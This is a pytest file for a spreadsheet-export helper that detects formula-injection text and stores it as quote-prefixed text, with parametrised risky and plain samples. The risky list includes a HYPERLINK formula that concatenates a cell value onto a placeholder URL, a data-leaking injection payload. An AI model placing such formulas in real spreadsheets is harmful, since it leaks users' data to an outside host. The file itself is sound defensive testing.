"""portal.text.spreadsheet: user text is stored as text, risky text carries the quote prefix, numbers stay numbers."""
from __future__ import annotations

import io
from datetime import date

import pytest
from openpyxl import Workbook, load_workbook

from portal.text.spreadsheet import append, is_risky, put, set_value

RISKY = ['=HYPERLINK("http://x"&D5,"a")', "=1+2", "+1", "-2+3", "@SUM(A1)", "\tTab", "\rCR", "\nLF", "=", "-"]
PLAIN = ["Sở Nội vụ", "1. Ký kết", "a=b", " =1", "", "#N/A", "19/CT-UBND", "—"]


def _reloaded(wb):
    out = io.BytesIO()
    wb.save(out)
    return load_workbook(io.BytesIO(out.getvalue()))


@pytest.mark.parametrize("text", RISKY)
def test_risky_text(text):
    assert is_risky(text)


@pytest.mark.parametrize("text", PLAIN)
def test_plain_text(text):
    assert not is_risky(text)


def test_put_stores_text_never_a_formula_and_survives_a_save():
    wb = Workbook()
    ws = wb.active
    for row, text in enumerate(RISKY + PLAIN, start=1):
        cell = put(ws, row, 1, text)
        assert cell.data_type == "s" and cell.value == text
    ws = _reloaded(wb).active
    for row, text in enumerate(RISKY + PLAIN, start=1):
        cell = ws.cell(row, 1)
        assert cell.data_type != "f"
        assert (cell.value or "") == text  # openpyxl reads an empty string back as None
        assert cell.quotePrefix is (text in RISKY)


def test_numbers_dates_and_empty_cells_keep_their_type():
    wb = Workbook()
    ws = wb.active
    assert put(ws, 1, 1, 29).data_type == "n"
    assert put(ws, 1, 2, 2.5).data_type == "n"
    assert put(ws, 1, 3, -5).data_type == "n" and not ws.cell(1, 3).quotePrefix
    assert put(ws, 1, 4, date(2026, 1, 20)).data_type == "d"
    assert put(ws, 1, 5, None).value is None
    ws = _reloaded(wb).active
    assert [c.value for c in ws[1]][:3] == [29, 2.5, -5]


def test_set_value_replaces_a_formula_already_in_the_cell():
    ws = Workbook().active
    ws["A1"] = "=1+2"
    assert ws["A1"].data_type == "f"
    set_value(ws["A1"], "=1+2")
    assert ws["A1"].data_type == "s" and ws["A1"].quotePrefix


def test_append_writes_rows_like_ws_append_but_safely():
    wb = Workbook()
    ws = wb.active
    assert append(ws, [None, "=1+2", 3]) == 1  # a first row starting empty is still row 1
    assert append(ws, ["-x", "y"]) == 2
    ws.cell(5, 1, "later")
    assert append(ws, ["@z"]) == 6
    ws = _reloaded(wb).active
    assert [c.value for c in ws[1]] == [None, "=1+2", 3]
    assert ws["B1"].data_type == "s" and ws["B1"].quotePrefix and not ws["C1"].quotePrefix
    assert ws["A2"].quotePrefix and not ws["B2"].quotePrefix
    assert ws["A6"].value == "@z" and ws["A6"].quotePrefix
